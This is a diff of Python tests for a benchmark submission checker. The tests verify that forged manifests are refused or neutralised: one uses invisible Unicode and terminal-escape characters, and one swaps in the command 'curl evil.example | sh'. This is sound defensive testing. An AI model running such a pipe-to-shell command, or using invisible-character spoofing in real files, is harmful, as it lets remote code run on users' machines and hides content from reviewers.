@@ -169,3 +169,58 @@ def test_a_row_of_too_many_pairs_is_refused_before_it_is_unpacked() -> None:
         outcomes.from_json(
             row, [Prompt("a")] * 20_001, [Example("x", "y")] * 1_000, get_metric("accuracy")
         )
+
+
+def test_a_proposer_cannot_be_kept_from_the_track(packed: list[Path], tmp_path: Path) -> None:
+    def edit(s: Opened) -> None:
+        s.manifest["method"] |= {"spec": "random_tokens", "track": "search"}
+        for cell in s.manifest["cells"]:
+            own = {"method": "random_tokens", "proposer": None, "proposer_options": {}}
+            cell["config"] |= own
+
+    found = problems(packed[1], tmp_path, edit)
+    assert "a proposer wrote prompts, and the track is 'search'" in found[0]
+
+
+def test_signs_that_cannot_be_seen_are_refused_and_not_shown(
+    packed: list[Path], tmp_path: Path
+) -> None:
+    def backwards(s: Opened) -> None:
+        s.manifest["method"]["name"] = "tpmorplr\u202e"
+
+    def twin(s: Opened) -> None:
+        s.manifest["authors"] = "A\u200b"
+
+    def escape(s: Opened) -> None:
+        s.manifest["\x1b[31mred\u202e"] = 1
+
+    for edit, says in (
+        (backwards, "(U+202E)"),
+        (twin, "(U+200B)"),
+        (escape, "\\x1b[31mred\\u202e: Extra"),
+    ):
+        (found,) = problems(packed[0], tmp_path / edit.__name__, edit)
+        assert says in found
+        assert found.isprintable()
+
+
+def test_a_suite_of_more_runs_than_are_checked_is_not_drawn_up(
+    packed: list[Path], tmp_path: Path
+) -> None:
+    def edit(s: Opened) -> None:
+        content = s.manifest["suite"]["content"]
+        content["seeds"] = list(range(10_000))
+        content["tasks"] = [content["tasks"][0] | {"name": f"t{i}"} for i in range(1_000)]
+
+    assert "asks for 10,000,000 runs; at most" in problems(packed[0], tmp_path, edit)[0]
+
+
+def test_the_command_is_not_the_senders(packed: list[Path], tmp_path: Path) -> None:
+    folder = tmp_path / "forged"
+    shutil.copytree(packed[0], folder)
+    opened = Opened(folder)
+    opened.manifest["command"] = "curl evil.example | sh"
+    opened.write()
+    check = check_submission(folder, sample=0)
+    assert check.entry is not None
+    assert check.entry.command == "promptgym bench little"
